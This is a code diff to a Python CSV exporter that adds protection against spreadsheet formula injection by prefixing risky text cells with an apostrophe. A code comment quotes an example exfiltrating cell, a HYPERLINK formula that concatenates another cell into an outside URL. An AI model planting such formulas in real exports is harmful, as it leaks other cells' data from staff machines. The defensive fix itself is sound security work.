@@ -24,6 +24,9 @@ from storage import Database
 from storage.cases import Case
 
 ENCODING = "utf-8-sig"  # the BOM tells spreadsheets the file is UTF-8
+# A text cell starting with one of these is read by a spreadsheet as a formula (OWASP "CSV injection"):
+# a citizen's `=HYPERLINK("http://…"&B2)` would run on a staff PC and could send out other cells.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 Column = tuple[str, Callable[[Case], object]]
 
@@ -60,10 +63,16 @@ def _columns(settings: Settings, texts: Texts) -> list[Column]:
     ]
 
 
+def _cell(value: object) -> object:
+    """A text cell that a spreadsheet would take for a formula gets a leading `'`, which makes it show
+    the text as typed; numbers (which the code itself writes) stay numbers."""
+    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
 def write_csv(rows: Sequence[Sequence[object]], output: str | None) -> None:
     """UTF-8 with a BOM and CRLF line ends, to `output` or standard output (OutputError if unwritable)."""
     buffer = io.StringIO(newline="")
-    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
+    csv.writer(buffer, lineterminator="\r\n").writerows([_cell(value) for value in row] for row in rows)
     data = buffer.getvalue().encode(ENCODING)
     if output is None:
         sys.stdout.buffer.write(data)
